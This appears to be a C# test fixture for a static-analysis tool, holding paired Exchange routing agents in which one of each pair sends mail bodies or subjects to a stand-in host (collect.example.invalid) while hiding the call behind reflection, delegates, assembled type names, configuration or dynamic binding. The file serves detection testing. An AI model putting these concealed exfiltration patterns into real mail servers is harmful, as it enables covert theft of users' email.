// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Calls by reflection.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Configuration;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 83: a method found by name and invoked
namespace Txray.Pairs.P83
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MethodInfo method = typeof(Net).GetMethod("Post", new[] { typeof(string) });
            method.Invoke(null, new object[] { new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd() });
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MethodInfo method = typeof(Net).GetMethod("Count", new[] { typeof(string) });
            method.Invoke(null, new object[] { new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd() });
            Net.Post("seen");
        }
    }

    internal static class Net
    {
        public static void Post(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }

        public static void Count(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }
    }
}

// 84: a delegate made from a name
namespace Txray.Pairs.P84
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var action = (Action<string>)Delegate.CreateDelegate(typeof(Action<string>), typeof(Net), "Post");
            action(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var action = (Action<string>)Delegate.CreateDelegate(typeof(Action<string>), typeof(Net), "Count");
            action(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            Net.Post("seen");
        }
    }

    internal static class Net
    {
        public static void Post(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }

        public static void Count(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }
    }
}

// 85: an object made from a name put together
namespace Txray.Pairs.P85
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            object made = Activator.CreateInstance(Type.GetType(typeof(Claim).Namespace + "." + "Web" + "Outlet"));
            ((IOutlet)made).Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            object made = Activator.CreateInstance(Type.GetType(typeof(Other).Namespace + "." + "Quiet" + "Outlet"));
            ((IOutlet)made).Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal interface IOutlet
    {
        void Put(string text);
    }

    internal class WebOutlet : IOutlet
    {
        public void Put(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    internal class QuietOutlet : IOutlet
    {
        public void Put(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }
    }
}

// 86: a target named in the configuration: given the mail, and given a constant
namespace Txray.Pairs.P86
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Type type = Type.GetType(ConfigurationManager.AppSettings["Plugin"]);
            type.GetMethod(ConfigurationManager.AppSettings["Method"]).Invoke(null, new object[] { new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd() });
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Type type = Type.GetType(ConfigurationManager.AppSettings["Plugin"]);
            type.GetMethod(ConfigurationManager.AppSettings["Method"]).Invoke(null, new object[] { "start" });
            Trace.WriteLine(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length.ToString());
        }
    }
}

// 87: a call that is bound when it runs
namespace Txray.Pairs.P87
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            dynamic outlet = new Web();
            outlet.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            dynamic outlet = new Quiet();
            outlet.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            new Web().Put("seen");
        }
    }

    public class Web
    {
        public void Put(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    public class Quiet
    {
        public void Put(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }
    }
}

// 88: a property read by reflection
namespace Txray.Pairs.P88
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            object message = e.MailItem.Message;
            PropertyInfo property = typeof(EmailMessage).GetProperty("Subject");
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)property.GetValue(message, null));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            object message = e.MailItem.Message;
            PropertyInfo property = typeof(EmailMessage).GetProperty("Subject");
            Trace.WriteLine(message == null ? "none" : "some");
            new WebClient().UploadString("https://collect.example.invalid/pair", property.Name);
        }
    }
}
